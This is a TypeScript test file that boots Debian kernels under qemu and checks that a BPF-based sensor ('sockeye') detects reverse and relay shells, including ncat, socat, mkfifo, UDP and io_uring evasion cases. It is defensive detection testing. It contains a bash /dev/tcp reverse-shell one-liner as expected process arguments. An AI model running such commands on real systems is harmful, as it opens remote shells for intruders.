/**
 * VM tier (docs/design.md §6): a real Debian kernel under qemu, where BPF LSM works, with
 * the built package running inside (test/vm/run.sh boots it, test/vm/guest/entry.mjs runs the
 * cases). This file asserts on what the guest observed: the guest feeds the same events to two
 * engines, TRC-101's precise profile (builtinRules() as it comes) and its tracee profile.
 *
 * Another kernel: SOCKEYE_VM_KERNEL=/boot/vmlinuz-X or SOCKEYE_VM_DEB=linux-image-X.deb
 * (SOCKEYE_VM_APPEND adds to its command line), then `npm run test:vm`. It replaces the
 * default kernel in the first two boots; the boots of pinned Debian packages run as always.
 *
 * Outside CI the tier skips, with the reason printed, when something it needs cannot be had
 * (run.sh exit 3: qemu, busybox-static, the kernel package, ...); with CI=true it fails.
 */
import { spawn } from "node:child_process";
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { dirname, join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";

const inCI = process.env.CI === "true";
const here = dirname(fileURLToPath(import.meta.url));
const ELASTIC_ID = "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39";
/** The precise profile's verdicts for a shell running on the socket (precise-judge.ts). */
const SHELL_VERDICTS = ["interpreter_stdio_on_socket", "shell_on_socket", "runs_commands_read_from_socket"];

interface Candidate { capability: string; program: string; live: boolean; reason: string }
interface Summary {
  ruleId: string;
  processName?: string;
  processArgs?: string[];
  parentName?: string;
  finding: { "IP address": string; Port: string; "File descriptor": number } | null;
  destination: { ip: string; port: number } | null;
  eventKind: string;
  source: string | null;
  syscall: string | null;
  filename: string | null;
  profile: string | null;
  verdict: { reason: string; socket_inode: number; stdio_fds: number[]; origin: string; identified_by?: string; program?: { executable: string; interpreter: string | null } } | null;
  relay: { program: string | null; remote: { address: string; port: number } | null; unconnected: boolean; connectUnseen: boolean } | null;
  transport?: string | null;
}
interface Connect {
  pid: number; comm: string; fd: number; family: string; source: string;
  remote: { address: string; port: number } | null; unixPath: string | null; socketOnFds: number[];
}
interface StdioFd { kind: string; ino: number; origin?: string; remote?: { address: string; port: number }; local?: { address: string; port: number } }
interface Case {
  name: string;
  expect: string;
  port: number | null;
  status: number | null;
  signal: string | null;
  stderr: string;
  durationMs: number;
  /** Every rule's findings with TRC-101's precise profile (builtinRules() as it comes). */
  findings: Summary[];
  /** The same events through an engine with TRC-101's tracee profile. */
  traceeFindings: Summary[];
  /** The precise profile's TRC-101 suppressions while the case ran, by reason. */
  suppressed: Record<string, number>;
  execs: { filename: string; args: string[]; stdio: StdioFd[] | null }[];
  connects: Connect[];
}
type EnforceActions = { execDenied: number; execKilled: number; dupKilled: number; signalFailed: number };
/** An enforcement case: the listener sent `id` and counted what came back in the next 2 s. */
interface EnforceCase {
  name: string;
  port: number;
  status: number | null;
  signal: string | null;
  stderr: string;
  connected: boolean;
  leaked: number;
  /** The kernel programs' own counts while the case ran; absent with the sensor closed. */
  actions?: EnforceActions;
}
interface Results {
  kernel: string;
  lsm: string | null;
  cmdline: string;
  uptimeAtEntry: number;
  uptimeAtExit: number;
  probe: { candidates: Candidate[]; features: { bpfLsm: boolean; lsmList: string; ia32Syscalls: string; helpers: Record<string, string> }; error: unknown } | null;
  probeWithoutLsm: { candidates: Candidate[] } | null;
  programs: Candidate[];
  ia32Getpid: { status: number | null; signal: string | null };
  cases: Case[];
  warnings: unknown[];
  counters: Record<string, { emitted: number; lost: number; errors: number }> | null;
  /** A cat's capability sets: printed from its /proc/self/status, and as its exec record carried them. */
  capabilities: { printed: { effective: string | null; permitted: string | null }; recorded: { effective: string; permitted: string } | null } | null;
  error: { message: string } | null;
  durationMs: number;
  /** The second sensor, opened with enforce: true after every case above (entry.mjs enforcement()). */
  enforce?: {
    interpreters: { names: string[]; exes: number; byInode: { bash: boolean; busybox: boolean } };
    programs: Candidate[] | null;
    cases: EnforceCase[];
    afterClose: EnforceCase[];
    totals: EnforceActions | null;
    error: { message: string } | null;
  };
}

type Outcome = { kind: "ok"; results: Results; seconds: number } | { kind: "unavailable" | "failed"; reason: string };

/** Boots the VM through run.sh; its last stderr line is the one-line reason on failure. */
function boot(mode: Mode): Promise<Outcome> {
  const args = [join(here, "run.sh"), "--out", join(here, ".cache", `run-${mode.id}`)];
  if (mode.package) args.push("--package", mode.package);
  if (mode.suite) args.push("--suite", mode.suite);
  // A boot of a pinned package is about that kernel: the override never reaches it.
  if (!mode.package && overrideArgs !== undefined) args.push(...overrideArgs);
  const append = [process.env.SOCKEYE_VM_APPEND, mode.append].filter(Boolean).join(" ");
  if (append) args.push("--append", append);
  if (process.env.SOCKEYE_VM_TIMEOUT) args.push("--timeout", process.env.SOCKEYE_VM_TIMEOUT);
  const started = Date.now();
  return new Promise((resolve) => {
    const child = spawn("bash", args, { stdio: ["ignore", "pipe", "pipe"] });
    let stdout = "", stderr = "";
    child.stdout.on("data", (d) => (stdout += d));
    child.stderr.on("data", (d: Buffer) => {
      stderr += d.toString();
      process.stderr.write(d); // progress (fetch, boot, timings) is worth seeing in the run
    });
    child.on("error", (e) => resolve({ kind: "failed", reason: `cannot run test/vm/run.sh: ${e.message}` }));
    child.on("close", (code) => {
      const reason = stderr.trim().split("\n").pop() ?? `test/vm/run.sh exited ${code}`;
      if (code === 3) return resolve({ kind: "unavailable", reason });
      if (code !== 0) return resolve({ kind: "failed", reason: reason || `test/vm/run.sh exited ${code}` });
      try {
        const results = JSON.parse(readFileSync(stdout.trim(), "utf8")) as Results;
        resolve({ kind: "ok", results, seconds: (Date.now() - started) / 1000 });
      } catch (e) {
        resolve({ kind: "failed", reason: `unreadable results from test/vm/run.sh: ${(e as Error).message}` });
      }
    });
  });
}

/**
 * The same guest suite, booted on a matrix of Debian kernels. CI runs the first five:
 * Debian 12's 6.1 as the kernel comes (the bpf LSM is on its list); 6.1 with an LSM list
 * that leaves bpf out, where the lsm/ program would load and attach but never run, so the
 * sensor must pass it over and detect through fentry instead; Debian's 6.12 (bookworm-security)
 * booted with ia32_emulation=0 (6.7+), a kernel that refuses ia32 syscalls although
 * CONFIG_IA32_EMULATION=y, as some builds of the CI machine kind do; Debian 11's 5.10
 * (bullseye, fetched through a private apt configuration) as Debian 11 boots it, bpf not on
 * its LSM list, so fentry; and the same 5.10 with bpf added to the list, the LSM program.
 * 5.10 has neither bpf_get_current_task_btf (5.11) nor bpf_task_pt_regs (5.15): there the
 * programs read the current task with bpf_get_current_task and CO-RE reads, and enter
 * programs stash the syscall arguments (task_access). `npm run test:vm -- --matrix` adds
 * 6.12's cloud and rt flavours.
 */
interface Mode {
  id: string;
  title: string;
  /** A Debian meta-package naming the kernel; none: the default kernel, or the one SOCKEYE_VM_* names. */
  package?: string;
  /** The Debian suite the package comes from when the host's apt sources do not carry it. */
  suite?: string;
  /** The kernel release that package must boot (so a wrong fetch cannot pass as this boot). */
  release?: RegExp;
  append: string;
  connectProgram: string;
  source: string;
  /** "own": whatever the guest's own int $0x80 shows (a kernel whose build we do not pin). */
  ia32: "taken" | "refused" | "own";
  /** The task_access variant the kernel's helpers give; "own" for a kernel we do not pin. */
  taskAccess: string;
  helpers: Helpers | "own";
  /** Booted only with --matrix (SOCKEYE_VM_MATRIX=1). */
  matrix?: boolean;
}
type Helpers = { bpf_get_current_task_btf: "yes" | "no"; bpf_task_pt_regs: "yes" | "no" };
const TASK_BTF_REGS = "bpf_get_current_task_btf + bpf_task_pt_regs";
const TASK_BTF_STASH = "bpf_get_current_task_btf + tp/syscalls/sys_enter_{connect,dup,dup2,dup3,fcntl}";
const TASK_HELPER_STASH = "bpf_get_current_task + tp/syscalls/sys_enter_{connect,dup,dup2,dup3,fcntl}";
/** The task_access variant a kernel with these helpers must run (native/loader.cc, best first). */
function taskAccessFor(helpers: Helpers): string {
  if (helpers.bpf_get_current_task_btf === "no") return TASK_HELPER_STASH;
  return helpers.bpf_task_pt_regs === "yes" ? TASK_BTF_REGS : TASK_BTF_STASH;
}
const HELPERS_5_15 = { bpf_get_current_task_btf: "yes", bpf_task_pt_regs: "yes" } as const;
const HELPERS_5_10 = { bpf_get_current_task_btf: "no", bpf_task_pt_regs: "no" } as const;
const LSM = { connectProgram: "lsm/socket_connect", source: "lsm" };
const FENTRY = { connectProgram: "fentry/security_socket_connect", source: "fentry" };
/** Debian 11's CONFIG_LSM: its 5.10 boots with this list, bpf not on it. */
const BULLSEYE_LSM = "lockdown,yama,loadpin,safesetid,integrity,apparmor,selinux,smack,tomoyo";
const ALL_MODES: Mode[] = [
  { id: "lsm", title: "the BPF LSM path", append: "", ...LSM, ia32: "taken", taskAccess: TASK_BTF_REGS, helpers: HELPERS_5_15 },
  { id: "no-bpf-lsm", title: "booted with lsm= without bpf (fentry path)", append: "lsm=lockdown,yama", ...FENTRY, ia32: "taken", taskAccess: TASK_BTF_REGS, helpers: HELPERS_5_15 },
  {
    id: "6.12-no-ia32", title: "Debian's 6.12 booted with ia32_emulation=0 (ia32 syscalls refused)", package: "linux-image-6.12-amd64", release: /^6\.12\.\d+\+deb12-amd64$/,
    // Debian's 6.12 lists bpf in CONFIG_LSM too, so connect runs on the LSM program there as well.
    append: "ia32_emulation=0", ...LSM, ia32: "refused", taskAccess: TASK_BTF_REGS, helpers: HELPERS_5_15,
  },
  {
    // The list given is Debian 11's own default, so this is the kernel as Debian 11 boots it
    // (run.sh would otherwise add bpf to it, as it does for the next boot).
    id: "5.10", title: "Debian 11's 5.10 as it boots (bpf not an active LSM: fentry)", package: "linux-image-amd64", suite: "bullseye",
    release: /^5\.10\.0-\d+-amd64$/, append: `lsm=${BULLSEYE_LSM}`, ...FENTRY, ia32: "taken", taskAccess: TASK_HELPER_STASH, helpers: HELPERS_5_10,
  },
  {
    id: "5.10-bpf-lsm", title: "Debian 11's 5.10 booted with bpf on its LSM list", package: "linux-image-amd64", suite: "bullseye",
    release: /^5\.10\.0-\d+-amd64$/, append: `lsm=${BULLSEYE_LSM},bpf`, ...LSM, ia32: "taken", taskAccess: TASK_HELPER_STASH, helpers: HELPERS_5_10,
  },
  {
    id: "6.12-cloud", title: "Debian's 6.12 cloud flavour", package: "linux-image-6.12-cloud-amd64", release: /^6\.12\.\d+\+deb12-cloud-amd64$/,
    append: "", ...LSM, ia32: "own", taskAccess: TASK_BTF_REGS, helpers: HELPERS_5_15, matrix: true,
  },
  {
    id: "6.12-rt", title: "Debian's 6.12 rt flavour (PREEMPT_RT)", package: "linux-image-6.12-rt-amd64", release: /^6\.12\.\d+\+deb12-rt-amd64$/,
    append: "", ...LSM, ia32: "own", taskAccess: TASK_BTF_REGS, helpers: HELPERS_5_15, matrix: true,
  },
];
/**
 * A kernel named on the environment replaces the default one in the boots that have no pinned
 * package (the first two); its helpers, task_access variant and ia32 syscalls are then what
 * the kernel itself shows, and its release must be the package's when the file name says it.
 */
const overrideArgs = process.env.SOCKEYE_VM_KERNEL
  ? ["--kernel", process.env.SOCKEYE_VM_KERNEL]
  : process.env.SOCKEYE_VM_DEB
    ? ["--deb", process.env.SOCKEYE_VM_DEB]
    : undefined;
const overrideRelease = /(?:^|\/)linux-image-(\d+\.\d+[^_/]*)_[^/]*\.deb$/.exec(process.env.SOCKEYE_VM_DEB ?? "")?.[1];
const MODES = ALL_MODES.filter((m) => !m.matrix || process.env.SOCKEYE_VM_MATRIX === "1").map((m): Mode =>
  m.package || overrideArgs === undefined ? m : { ...m, ia32: "own", helpers: "own", taskAccess: "own" },
);

for (const mode of MODES) describe(`vm: sockeye in a Debian kernel under qemu, ${mode.title}`, () => {
  let outcome: Outcome;
  let r: Results;

  beforeAll(async () => {
    outcome = await boot(mode);
    if (outcome.kind === "ok") {
      r = outcome.results;
      console.log(`vm tier: kernel ${r.kernel}, suite at guest uptime ${r.uptimeAtEntry}s, guest suite ${(r.durationMs / 1000).toFixed(1)}s, whole boot ${outcome.seconds.toFixed(1)}s`);
    } else if (outcome.kind === "unavailable" && !inCI) {
      console.warn(`vm tier skipped: ${outcome.reason}`);
    }
  });

  /** Every test goes through this: skip (outside CI, unavailable), fail with the reason, or run. */
  function vmIt(name: string, body: () => void) {
    it(name, (ctx) => {
      if (outcome.kind === "unavailable" && !inCI) ctx.skip();
      if (outcome.kind !== "ok") throw new Error(`vm tier: ${outcome.reason}`);
      body();
    });
  }

  const caseOf = (name: string): Case => {
    const c = r.cases.find((x) => x.name === name);
    if (!c) throw new Error(`the guest ran no case named ${name} (ran: ${r.cases.map((x) => x.name).join(", ")})`);
    return c;
  };
  const trc101 = (list: Summary[]) => list.filter((f) => f.ruleId === "TRC-101");
  /**
   * A socket put on stdio with nothing run on it. The tracee profile reports it, exactly as
   * today (Tracee's verdict: the socket sits on stdio); the precise one reports nothing, since
   * no shell ran on the socket, and counts the held trigger as no_program when the helper exits.
   */
  const onStdioOnly = (c: Case, expected: Record<string, unknown>) => {
    expect(c.status, c.stderr).toBe(0);
    const found = trc101(c.traceeFindings);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ ...expected, profile: "tracee" });
    expect(c.traceeFindings).toHaveLength(1);
    expect(c.findings).toEqual([]);
    expect(c.suppressed).toEqual({ no_program: 1 });
  };
  const live = (cands: Candidate[], capability: string) => cands.filter((x) => x.capability === capability && x.live).map((x) => x.program);
  const ia32Known = mode.ia32 !== "own";
  const ia32Expected = (): "taken" | "refused" => (mode.ia32 !== "own" ? mode.ia32 : r.ia32Getpid.status === 0 ? "taken" : "refused");
  const NOT_NEEDED = /^not needed: this kernel refuses ia32 syscalls \(an int \$0x80 from a test process died with SIGSEGV\)/;

  vmIt("the guest suite ran to the end without an error", () => {
    expect(r.error).toBeNull();
    expect(r.cases.map((c) => c.name)).toEqual([
      "connect-fd0", "dup2-fd1", "dup3-fd0", "connect-fd0-exec-sh", "setsid-bash-dev-tcp", "ia32-dup2-fd1", "ia32-connect-fd0",
      "socket-onto-fd5", "file-onto-fd1", "connect-fd3", "setsid-sleep", "unix-fd0", "nohup-no-dev-tcp",
      "relay-ncat-e", "relay-socat-pty", "relay-mkfifo-chain", "relay-ncat-delayed", "relay-socat-udp", "relay-socat-udp-sendto", "relay-uring", "shell001-read-loop", "shell001-split",
    ]);
    expect(r.warnings).toEqual([]);
  });

  if (!mode.package && overrideRelease !== undefined) {
    vmIt(`the guest ran the kernel of ${process.env.SOCKEYE_VM_DEB} (${overrideRelease})`, () => {
      expect(r.kernel).toBe(overrideRelease);
    });
  }

  if (mode.release) {
    vmIt(`the guest ran ${mode.package}'s kernel${mode.suite ? ` from ${mode.suite}` : ""}${mode.append ? `, booted with ${mode.append}` : ""}`, () => {
      expect(r.kernel).toMatch(mode.release!);
      expect(r.cmdline.split(" ")).toEqual(expect.arrayContaining(mode.append.split(" ").filter(Boolean)));
    });
  }

  if (mode.connectProgram === "lsm/socket_connect") {
    vmIt("probe: the bpf LSM is active and lsm/socket_connect serves connect", () => {
      expect(r.probe!.error).toBeNull();
      expect(r.probe!.features.bpfLsm).toBe(true);
      expect(r.probe!.features.lsmList.split(",")).toContain("bpf");
      const connect = r.probe!.candidates.filter((x) => x.capability === "connect");
      expect(connect[0]).toEqual({ capability: "connect", program: "lsm/socket_connect", live: true, reason: "" });
    });
  } else {
    vmIt("probe: bpf is not an active LSM, so lsm/socket_connect is passed over with that reason", () => {
      expect(r.probe!.error).toBeNull();
      expect(r.probe!.features.lsmList.split(",")).not.toContain("bpf");
      const lsm = r.probe!.candidates.find((x) => x.program === "lsm/socket_connect");
      expect(lsm).toMatchObject({ live: false });
      expect(lsm!.reason).toMatch(/^bpf is not an active LSM \(.*\): boot with lsm=.*,bpf to use it$/);
    });
  }

  vmIt(`probe and the sensor: ${mode.connectProgram} serves connect`, () => {
    expect(live(r.probe!.candidates, "connect")).toEqual([mode.connectProgram]);
    // The sensor that ran the cases chose the same.
    expect(live(r.programs, "connect")).toEqual([mode.connectProgram]);
    for (const cap of ["socket_dup", "accept", "process", "task_access"]) expect(live(r.programs, cap)).toHaveLength(1);
  });

  // Every kernel of the matrix has the set*id and setsid tracepoints (5.10's too, with the
  // bpf_get_current_task variant): the empty fallback candidate is for kernels without them.
  vmIt("probe and the sensor: the set*id and setsid tracepoints serve cred_change", () => {
    const tracepoints = "tp/syscalls/sys_{enter,exit}_set{,re,res}{u,g}id + sys_exit_setsid";
    expect(live(r.probe!.candidates, "cred_change")).toEqual([tracepoints]);
    expect(live(r.programs, "cred_change")).toEqual([tracepoints]);
  });

  // kernel_cap_t is two u32 before 6.3 (the matrix's 5.10 and 6.1) and one u64 since (6.12):
  // the exec record's sets must read the same on both, as /proc shows them.
  vmIt("exec records carry the capability sets a program printed from its own /proc/self/status", () => {
    const caps = r.capabilities!;
    expect(caps.printed.effective).toMatch(/^[0-9a-f]{16}$/);
    // The guest runs as root: at least CAP_CHOWN, never an empty set.
    expect(BigInt(`0x${caps.printed.effective}`) & 1n).toBe(1n);
    expect(caps.recorded).toEqual(caps.printed);
  });

  const helpersTitle = mode.helpers === "own" ? "as probed" : Object.entries(mode.helpers).map(([h, v]) => `${h}=${v}`).join(" ");
  vmIt(`task_access: the kernel's helpers (${helpersTitle}) give ${mode.taskAccess === "own" ? "the variant they allow" : mode.taskAccess}, in probe and in the sensor`, () => {
    const probed = r.probe!.features.helpers;
    if (mode.helpers === "own") expect(Object.values(probed).every((v) => v === "yes" || v === "no"), JSON.stringify(probed)).toBe(true);
    else expect(probed).toEqual(mode.helpers);
    const helpers = probed as Helpers;
    const taskAccess = mode.taskAccess === "own" ? taskAccessFor(helpers) : mode.taskAccess;
    expect(live(r.probe!.candidates, "task_access")).toEqual([taskAccess]);
    expect(live(r.programs, "task_access")).toEqual([taskAccess]);
    // A variant the kernel cannot give is passed over, saying which helper it lacks.
    for (const row of r.probe!.candidates.filter((x) => x.capability === "task_access" && !x.live && x.program.startsWith("bpf_get_current_task_btf"))) {
      if (helpers.bpf_get_current_task_btf === "no") expect(row.reason).toBe("this kernel has no bpf_get_current_task_btf (5.11+)");
      else if (row.program === TASK_BTF_REGS && helpers.bpf_task_pt_regs === "no") expect(row.reason).toMatch(/bpf_task_pt_regs/);
      else expect(row.reason).toBe("not needed: a preferred candidate is live");
    }
  });

  vmIt(`ia32 syscalls: ${ia32Known ? `this kernel ${mode.ia32 === "taken" ? "takes" : "refuses"} them` : "what this kernel does"}, and probe and an int $0x80 of the guest's own agree`, () => {
    const expected = ia32Expected();
    expect(r.probe!.features.ia32Syscalls).toBe(expected);
    expect(r.ia32Getpid).toEqual(expected === "taken" ? { status: 0, signal: null } : { status: null, signal: "SIGSEGV" });
  });

  vmIt("the compat row: live in the sensor that asked for it where ia32 syscalls run, 'not needed' where they are refused", () => {
    const probed = r.probe!.candidates.filter((x) => x.capability === "compat");
    const opened = r.programs.filter((x) => x.capability === "compat");
    expect(probed).toHaveLength(1);
    expect(opened).toHaveLength(1);
    if (ia32Expected() === "taken") {
      // The guest's sensor watches ia32 syscalls; probe (the default) leaves them off and says so.
      expect(opened[0]).toMatchObject({ program: "tp_btf/sys_exit (ia32 syscalls)", live: true });
      expect(probed[0]).toMatchObject({ live: false, reason: expect.stringMatching(/^off: ia32 syscalls/) as unknown });
    } else {
      // Nothing to watch: with or without compatSyscalls nothing loads, and the row says why.
      // The sensor opened with compatSyscalls: true started (it ran every case below).
      for (const row of [probed[0], opened[0]]) {
        expect(row).toMatchObject({ program: "tp_btf/sys_exit (ia32 syscalls)", live: false });
        expect(row!.reason).toMatch(NOT_NEEDED);
      }
    }
  });

  vmIt(`ia32 syscalls (int $0x80): ${ia32Known && mode.ia32 === "refused"
    ? "each ia32 case dies with SIGSEGV at its first int $0x80, and nothing is reported"
    : "a dup2 onto fd 1 and a connect on fd 0 each give one tracee TRC-101, none precise (no_program)"}`, () => {
    if (ia32Expected() === "taken") return ia32Seen();
    for (const name of ["ia32-dup2-fd1", "ia32-connect-fd0"]) {
      const c = caseOf(name);
      expect({ name, status: c.status, signal: c.signal }).toEqual({ name, status: null, signal: "SIGSEGV" });
      expect(c.findings).toEqual([]);
      expect(c.traceeFindings).toEqual([]);
      expect(c.suppressed).toEqual({});
    }
    // The connect was to be the ia32 call itself: none reached the kernel's connect hook.
    expect(caseOf("ia32-connect-fd0").connects).toEqual([]);
  });

  function ia32Seen() {
    const dup = caseOf("ia32-dup2-fd1");
    onStdioOnly(dup, {
      processName: "ia32-syscalls", eventKind: "socket_dup", syscall: "dup2",
      finding: { "IP address": "127.0.0.1", Port: String(dup.port), "File descriptor": 1 },
    });
    const connect = caseOf("ia32-connect-fd0");
    onStdioOnly(connect, {
      processName: "ia32-syscalls", eventKind: "connect", source: mode.source,
      finding: { "IP address": "127.0.0.1", Port: String(connect.port), "File descriptor": 0 },
    });
  }

  vmIt("probe: with the LSM program skipped, fentry/security_socket_connect serves connect", () => {
    expect(live(r.probeWithoutLsm!.candidates, "connect")).toEqual(["fentry/security_socket_connect"]);
  });

  vmIt(`a connect made on fd 0, seen by ${mode.connectProgram}: tracee TRC-101, precise none (no_program)`, () => {
    const c = caseOf("connect-fd0");
    onStdioOnly(c, {
      processName: "sockhelper",
      eventKind: "connect",
      source: mode.source,
      finding: { "IP address": "127.0.0.1", Port: String(c.port), "File descriptor": 0 },
      destination: { ip: "127.0.0.1", port: c.port },
    });
  });

  for (const [name, syscall, fd] of [["dup2-fd1", "dup2", 1], ["dup3-fd0", "dup3", 0]] as const) {
    vmIt(`${syscall} of a connected socket onto fd ${fd}: tracee TRC-101, precise none (no_program)`, () => {
      const c = caseOf(name);
      onStdioOnly(c, {
        processName: "sockhelper",
        eventKind: "socket_dup",
        syscall,
        finding: { "IP address": "127.0.0.1", Port: String(c.port), "File descriptor": fd },
      });
    });
  }

  vmIt("the Elastic rule fires for setsid bash -c '... /dev/tcp/...' launched from bash", () => {
    const c = caseOf("setsid-bash-dev-tcp");
    expect(c.status, c.stderr).toBe(0);
    const elastic = c.findings.filter((f) => f.ruleId === ELASTIC_ID);
    expect(elastic).toHaveLength(1);
    expect(elastic[0]).toMatchObject({
      processName: "setsid",
      parentName: "bash",
      eventKind: "exec",
      filename: "/usr/bin/setsid",
      processArgs: ["setsid", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${c.port} 0>&1`],
    });
    // The shell it starts puts the socket on stdio: TRC-101 sees that too, once in the precise
    // profile (one socket, one finding, however many bash processes dup or inherit it) ...
    const shell = trc101(c.findings);
    expect(shell).toHaveLength(1);
    expect(shell[0]).toMatchObject({
      processName: "bash", profile: "precise",
      finding: { "IP address": "127.0.0.1", Port: String(c.port) },
      destination: { ip: "127.0.0.1", port: c.port },
    });
    expect(SHELL_VERDICTS).toContain(shell[0]!.verdict?.reason);
    expect(shell[0]!.verdict!.socket_inode).toBeGreaterThan(0);
    // ... and at least once in the tracee one (one finding per process and endpoint).
    const tracee = trc101(c.traceeFindings);
    expect(tracee.length).toBeGreaterThanOrEqual(1);
    expect(tracee[0]).toMatchObject({ processName: "bash", finding: { "IP address": "127.0.0.1", Port: String(c.port) } });
    expect(c.traceeFindings.filter((f) => f.ruleId === ELASTIC_ID)).toHaveLength(1);
  });

  vmIt(`a shell exec'd with the socket of a connect on fd 0 (${mode.connectProgram}) as its stdin and stdout: one precise TRC-101, shell_on_socket`, () => {
    const c = caseOf("connect-fd0-exec-sh");
    // sh read "exit" from the listener through the socket on its stdin.
    expect(c.status, c.stderr).toBe(0);
    // The trigger: the helper's connect on fd 0, through this boot's connect program.
    expect(c.connects).toHaveLength(1);
    expect(c.connects[0]).toMatchObject({ comm: "sockhelper", fd: 0, family: "inet", source: mode.source, remote: { address: "127.0.0.1", port: c.port }, socketOnFds: [0] });
    // What sh started with, read from its fd table at exec (the CO-RE reads on this kernel):
    // the one socket on fds 0 and 1, stderr still the suite's (node's "pipe" stdio is an
    // AF_UNIX socketpair).
    const sh = c.execs.find((e) => e.filename === "/bb/sh");
    expect(sh, JSON.stringify(c.execs)).toBeDefined();
    expect(sh!.args).toEqual(["sh"]);
    const [in0, out1, err2] = sh!.stdio!;
    expect(in0).toMatchObject({ kind: "inet", origin: "connected", remote: { address: "127.0.0.1", port: c.port }, local: { address: "127.0.0.1" } });
    expect(in0!.ino).toBeGreaterThan(0);
    expect(out1).toEqual(in0);
    expect(err2).toMatchObject({ kind: "unix", socketType: "stream" });
    // The finding is about the shell, from its exec; the helper's held triggers fold into it.
    expect(c.findings).toHaveLength(1);
    expect(c.findings[0]).toMatchObject({
      ruleId: "TRC-101", profile: "precise", processName: "sh", eventKind: "exec", filename: "/bb/sh",
      finding: { "IP address": "127.0.0.1", Port: String(c.port), "File descriptor": 0 },
      destination: { ip: "127.0.0.1", port: c.port },
      verdict: { reason: "shell_on_socket", socket_inode: in0!.ino, stdio_fds: [0, 1], origin: "connected", program: { executable: "/bb/sh", interpreter: "shell" } },
    });
    expect(c.suppressed).toEqual({});
    // Tracee reports the helper's connect (its dup of the same endpoint folds into it).
    expect(trc101(c.traceeFindings)).toHaveLength(1);
    expect(c.traceeFindings[0]).toMatchObject({ processName: "sockhelper", eventKind: "connect", source: mode.source, finding: { "File descriptor": 0 } });
  });

  for (const name of ["socket-onto-fd5", "file-onto-fd1", "connect-fd3", "setsid-sleep", "nohup-no-dev-tcp", "unix-fd0"]) {
    vmIt(`negative stays silent: ${name}`, () => {
      const c = caseOf(name);
      // The process did what the case says (else its silence proves nothing) ...
      expect(c.status, c.stderr).toBe(0);
      expect(c.execs.length).toBeGreaterThanOrEqual(1);
      // ... and no rule said a word while it ran, in either profile, nor held anything.
      expect(c.findings).toEqual([]);
      expect(c.traceeFindings).toEqual([]);
      expect(c.suppressed).toEqual({});
    });
  }

  vmIt("the negatives really ran what they name", () => {
    expect(caseOf("setsid-sleep").execs.map((e) => e.filename)).toContain("/usr/bin/setsid");
    // The exec-time record of nohup: stdin the suite's socketpair, stdout and stderr the one
    // /dev/null.
    const nohup = caseOf("nohup-no-dev-tcp").execs.find((e) => e.filename === "/usr/bin/nohup");
    expect(nohup!.stdio!.map((s) => s.kind)).toEqual(["unix", "chardev", "chardev"]);
    expect(nohup!.stdio![2]).toEqual(nohup!.stdio![1]);
    expect(caseOf("nohup-no-dev-tcp").execs.map((e) => e.filename)).toContain("/usr/bin/nohup");
    // connect on fd 3 is not stdio: filtered in the kernel, it never reaches userspace.
    expect(caseOf("connect-fd3").connects).toEqual([]);
    // AF_UNIX on fd 0 reaches userspace through the connect hook with its path read, and
    // TRC-101 (inet only) stays silent on it.
    const unix = caseOf("unix-fd0").connects;
    expect(unix).toHaveLength(1);
    expect(unix[0]).toMatchObject({ fd: 0, family: "unix", source: mode.source, unixPath: "/tmp/sockeye-vm.sock", remote: null });
  });

  // Relay shells: the listener sent a command and got its output back through the relay; one
  // RELAY-001 finding in either profile (TRC-101 never: the socket stays in the relay), with
  // the listener's endpoint and the relay program.
  for (const [name, program] of [["relay-ncat-e", "ncat"], ["relay-socat-pty", "socat"], ["relay-mkfifo-chain", "nc.traditional"]] as const) {
    vmIt(`relay shell: ${name} gives exactly one RELAY-001 finding`, () => {
      const c = caseOf(name) as Case & { answered: boolean };
      expect(c.answered, c.stderr).toBe(true);
      for (const list of [c.findings, c.traceeFindings]) {
        expect(list.map((f) => f.ruleId)).toEqual(["RELAY-001"]);
        expect(list[0]).toMatchObject({ processName: "bash", destination: { ip: "127.0.0.1", port: c.port }, relay: { program, remote: { address: "127.0.0.1", port: c.port } } });
      }
    });
  }

  // Relay evasions: a shell that starts 11 s after its relay connected (no window), and a relay
  // over a connected UDP socket: one RELAY-001 each, naming the relay and, for UDP, the transport.
  for (const [name, program, transport] of [["relay-ncat-delayed", "ncat", "tcp"], ["relay-socat-udp", "socat", "udp"]] as const) {
    vmIt(`relay evasion: ${name} gives exactly one RELAY-001 finding (${transport})`, () => {
      const c = caseOf(name) as Case & { answered: boolean };
      expect(c.answered, c.stderr).toBe(true);
      expect(c.findings.map((f) => f.ruleId)).toEqual(["RELAY-001"]);
      expect(c.findings[0]).toMatchObject({ processName: "bash", destination: { ip: "127.0.0.1", port: c.port }, relay: { program }, transport });
    });
  }

  // A relay over a UDP socket that never connects (socat UDP-SENDTO:): udp_send's cgroup/sendmsg
  // programs are live on the guest's cgroup v2 root, and the relay's first send names its socket.
  vmIt("relay evasion: relay-socat-udp-sendto (never connected) gives exactly one RELAY-001 finding (udp), udp_send live", () => {
    expect(live(r.programs, "udp_send")).toEqual(["cgroup/sendmsg{4,6}"]);
    const c = caseOf("relay-socat-udp-sendto") as Case & { answered: boolean };
    expect(c.answered, c.stderr).toBe(true);
    expect(c.findings.map((f) => f.ruleId)).toEqual(["RELAY-001"]);
    expect(c.findings[0]).toMatchObject({ processName: "bash", destination: { ip: "127.0.0.1", port: c.port }, relay: { program: "socat", unconnected: true }, transport: "udp" });
  });

  // A relay whose connect went through io_uring: no hook saw a connect(2); the relay's socket is
  // known from the TCP table as outbound, and said so (connect_unseen). A kernel that refuses
  // io_uring (io_uring_disabled, a config without it) is a fact of that kernel, asserted as such.
  vmIt("relay evasion: relay-uring (IORING_OP_CONNECT) gives exactly one RELAY-001 finding in either profile, the connect unseen", () => {
    const c = caseOf("relay-uring") as Case & { answered: boolean };
    if (c.status === 2 && /sockhelper: io_uring_setup: /.test(c.stderr)) {
      expect(c.stderr).toMatch(/io_uring_setup: (Function not implemented|Operation not permitted)/);
      expect(c.findings).toEqual([]);
      return;
    }
    expect(c.answered, c.stderr).toBe(true);
    for (const list of [c.findings, c.traceeFindings]) {
      expect(list.map((f) => f.ruleId)).toEqual(["RELAY-001"]);
      expect(list[0]).toMatchObject({ processName: "bash", destination: { ip: "127.0.0.1", port: c.port }, relay: { program: "sockhelper", connectUnseen: true } });
    }
  });

  // A shell known by what it does (SHELL-001): the listener got both answers; with the precise
  // profile exactly one finding across every default rule, with how it was known; the tracee
  // profile adds its own TRC-101 reports of the dups but SHELL-001 stays one.
